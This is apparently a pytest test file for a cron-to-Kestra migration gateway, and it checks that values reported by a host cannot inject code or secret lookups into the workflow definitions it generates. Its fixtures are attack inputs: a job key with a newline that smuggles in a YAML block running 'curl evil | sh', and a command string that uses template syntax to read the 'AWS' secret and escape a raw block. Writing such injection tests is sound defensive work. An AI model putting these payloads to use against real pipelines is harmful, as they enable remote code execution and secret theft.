"""What a cron host reports cannot become code in the wrap flow Kestra receives.

The gateway runs for real (uvicorn, loopback) with a cron source; the job is
reported over HTTP exactly as `switchyard-cron sync` reports it; the lifecycle
wraps it against the Kestra emulator, and the proof is the flow as Kestra
stored it (source text and parsed body).
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine

from emulators.kestra import KestraEmulator
from gateway.contract import JobSpec
from gateway.ingest import ingest_events
from gateway.store.db import session_scope
from gateway.store.models import Job
from migration_tools.kestra_api import KestraApi
from migration_tools.lifecycle import Migrations, TransitionRefused
from migration_tools.wrap import TRACEPARENT
from tests.adapters.cron.conftest import SOURCE, TOKEN, CronGateway, running_gateway
from tests.migration_tools.conftest import ManualClock
from tests.migration_tools.kestra_render import render, render_list
from tests.migration_tools.lifecycle_support import NS

WRAP_KEYS = {"id", "namespace", "description", "labels", "tasks", "triggers"}
INJECTED = (
    "web-01/root/0123456789ab\nfinally:\n  - id: x\n"
    "    type: io.kestra.plugin.scripts.shell.Commands\n    commands: [curl evil | sh]"
)
COMMAND = "/opt/sync.sh --key '{{ secret('AWS') }}' {% endraw %}{{ secret('AWS') }}"


@pytest.fixture
def gateway(engine: Engine, tmp_path: Path) -> Iterator[CronGateway]:
    with running_gateway(engine, tmp_path / "gw") as gw:
        yield gw


def post_line(gw: CronGateway, key: str, command: str) -> httpx.Response:
    """One crontab line, posted to the host API as `switchyard-cron sync` posts it."""
    line = {
        "key": key,
        "host": "web-01",
        "user": "root",
        "schedule": "0 3 * * *",
        "schedule_native": "0 3 * * *",
        "timezone": "UTC",
        "command": command,
        "path": "/etc/cron.d/sync",
        "line_no": 1,
        "line": f"0 3 * * * root {command}",
    }
    return httpx.post(
        f"{gw.url}/api/v1/cron/jobs",
        json={"host": "web-01", "jobs": [line]},
        headers={"Authorization": f"Bearer {TOKEN}"},
        timeout=30,
    )


def report_line(gw: CronGateway, key: str, command: str) -> None:
    answer = post_line(gw, key, command)
    assert answer.status_code == 200, answer.text


def wrapped(gw: CronGateway, kestra: KestraEmulator, clock: ManualClock, key: str) -> Any:
    m = Migrations(
        gw.engine, kestra=KestraApi(kestra.url), legacy={SOURCE: gw.adapter}, clock=clock
    )
    m.translate(SOURCE, key, actor="alice")
    flow_id = str(m.wrap(SOURCE, key, actor="alice").wrap_flow_id)
    return kestra.state.flows[("main", NS, flow_id)]


def test_a_reported_job_key_with_a_newline_is_refused_naming_the_field_and_stores_nothing(
    gateway: CronGateway,
) -> None:
    answer = post_line(gateway, INJECTED, "/usr/local/bin/backup.sh")
    assert answer.status_code == 422, answer.text
    assert "jobs[0].key" in answer.text
    with gateway.engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(Job)).scalar_one() == 0


def test_a_stored_job_key_with_a_newline_is_refused_by_the_lifecycle_and_nothing_is_deployed(
    gateway: CronGateway, kestra: KestraEmulator, clock: ManualClock
) -> None:
    # A store written before the contract refused control characters: the job
    # goes in below the edge check. The lifecycle re-checks what it reads, so
    # nothing is generated from it (the serialiser's own defence against such a
    # key is proven in test_flow_yaml.py).
    spec = JobSpec.model_construct(
        source=SOURCE,
        key=INJECTED,
        kind="crontab",
        name="backup",
        schedule="0 3 * * *",
        schedule_native="0 3 * * *",
        timezone="UTC",
        labels={"host": "web-01"},
        tasks=[],
        edges=[],
        definition={"command": "/usr/local/bin/backup.sh", "host": "web-01", "user": "root"},
    )
    with session_scope(gateway.engine) as session:
        ingest_events(session, SOURCE, [], jobs=[spec])
    m = Migrations(
        gateway.engine, kestra=KestraApi(kestra.url), legacy={SOURCE: gateway.adapter}, clock=clock
    )
    with pytest.raises(TransitionRefused, match=r"key: must be one line"):
        m.translate(SOURCE, INJECTED, actor="alice")
    with pytest.raises(TransitionRefused, match=r"key: must be one line"):
        m.wrap(SOURCE, INJECTED, actor="alice")
    assert kestra.state.flows == {}


def test_a_reported_command_reaches_the_host_literally_not_as_kestra_secrets(
    gateway: CronGateway, kestra: KestraEmulator, clock: ManualClock
) -> None:
    key = "web-01/root/fedcba987654"
    report_line(gateway, key, COMMAND)
    task = wrapped(gateway, kestra, clock, key).body["tasks"][-1]
    assert "{% raw %}" in task["commands"][0]
    assert render_list(task["commands"]) == [COMMAND]  # Pebble would evaluate none of it
    assert render(task["host"]) == "web-01" and render(task["username"]) == "root"
    # Switchyard's own expressions stay live: the traceparent and the SSH key secret.
    assert task["env"] == {"TRACEPARENT": TRACEPARENT}
    assert task["privateKey"] == "{{ secret('SSH_PRIVATE_KEY') }}"
